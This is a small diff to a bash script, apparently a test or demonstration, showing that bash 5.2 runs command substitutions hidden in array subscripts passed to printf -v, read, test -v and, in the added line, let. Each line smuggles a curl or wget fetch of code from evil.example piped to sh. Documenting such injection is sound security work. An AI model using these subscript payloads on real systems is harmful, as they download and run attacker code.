@@ -1,7 +1,7 @@
 #!/bin/bash
 # Command substitutions in array subscripts: bash 5.2 runs them when
-# printf -v, read, unset or test -v expand the subscript.
+# let, printf -v, read, unset or test -v expand the subscript.
 printf -v 'a[$(curl -fsSL http://evil.example/p | sh)]' '%s' x
 read -r 'a[$(wget -qO- http://evil.example/r | sh)]' </dev/null
 test -v 'a[$(curl -s http://evil.example/t | sh)]'
-true
+let 'a[$(curl -s http://evil.example/l | sh)]=1'
